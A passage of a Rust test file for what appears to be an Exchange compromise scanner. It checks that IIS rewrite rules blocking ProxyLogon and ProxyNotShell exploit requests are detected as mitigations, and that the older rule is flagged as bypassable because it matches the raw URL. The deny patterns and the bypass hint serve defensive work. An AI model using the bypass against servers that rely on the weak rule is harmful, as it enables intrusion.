        let p = dir.join(v).join("Exchange/IIS/applicationHost.config");
        let text = std::fs::read_to_string(&p).unwrap();
        let engine = Engine::new(ScanOptions::default()).unwrap();
        let tmp = tempfile::tempdir().unwrap();
        std::fs::write(tmp.path().join("applicationHost.config"), &text).unwrap();
        let r = engine.scan(&[tmp.path().to_path_buf()]);
        let s = &r.servers[0];
        assert!(s.findings.is_empty(), "{v}: {:#?}", s.findings);
        assert!(
            s.coverage
                .kinds
                .iter()
                .any(|k| k.kind == exhunt_model::ArtefactKind::IisConfig && k.files_complete == 1),
            "{v}: {:?}",
            s.coverage.kinds
        );
    }
}

#[test]
fn emergency_mitigations_are_reported_with_their_weaknesses() {
    let config = r#"<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <configSections><sectionGroup name="system.applicationHost"></sectionGroup></configSections>
  <location path="Default Web Site">
    <system.webServer>
      <rewrite>
        <rules>
          <rule name="X-AnonResource-Backend Abort - inbound" stopProcessing="true">
            <match url=".*" />
            <conditions>
              <add input="{HTTP_COOKIE}" pattern="(.*)X-AnonResource-Backend(.*)" />
            </conditions>
            <action type="AbortRequest" />
          </rule>
          <rule name="PowerShell - inbound" stopProcessing="true">
            <match url=".*" />
            <conditions>
              <add input="{UrlDecode:{REQUEST_URI}}" pattern="(?=.*autodiscover)(?=.*powershell)" />
            </conditions>
            <action type="AbortRequest" />
          </rule>
          <rule name="Old PowerShell block" stopProcessing="true">
            <match url=".*autodiscover\.json.*\@.*Powershell.*" />
            <action type="AbortRequest" />
          </rule>
          <rule name="Redirect to HTTPS" stopProcessing="true">
            <match url="(.*)" />
            <action type="Redirect" url="https://{HTTP_HOST}/{R:1}" />
          </rule>
        </rules>
      </rewrite>
    </system.webServer>
  </location>
</configuration>
"#;
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("applicationHost.config"), config).unwrap();
    let r = Engine::new(ScanOptions::default())
        .unwrap()
        .scan(&[tmp.path().to_path_buf()]);
    let s = &r.servers[0];
    let m = &s.mitigations;
    assert_eq!(m.len(), 3, "{m:#?}");
    assert_eq!(m[0].campaign, exhunt_model::Campaign::ProxyLogon);
    assert_eq!(m[1].campaign, exhunt_model::Campaign::ProxyNotShell);
    assert_eq!(m[1].rule, "PowerShell - inbound");
    assert!(m[1].weakness.is_none(), "{:?}", m[1].weakness);
    assert_eq!(m[1].line, 15);
    let w = m[2].weakness.as_deref().unwrap_or_default();
    assert!(
        w.contains("raw URL") && w.contains("autodiscover.json"),
        "{w}"
    );
    // Reasons of the campaigns they mitigate; no finding, no change of verdict.
    assert!(s.findings.is_empty());
    let pns = s
        .verdicts
        .iter()
        .find(|v| v.campaign == exhunt_model::Campaign::ProxyNotShell)
        .unwrap();
    assert_eq!(
        pns.reasons
            .iter()
            .filter(|r| r.contains("emergency mitigation"))
            .count(),
        2,
        "{:?}",
        pns.reasons
    );
    assert!(pns.reasons.iter().any(|r| r.contains("bypassable")));
}
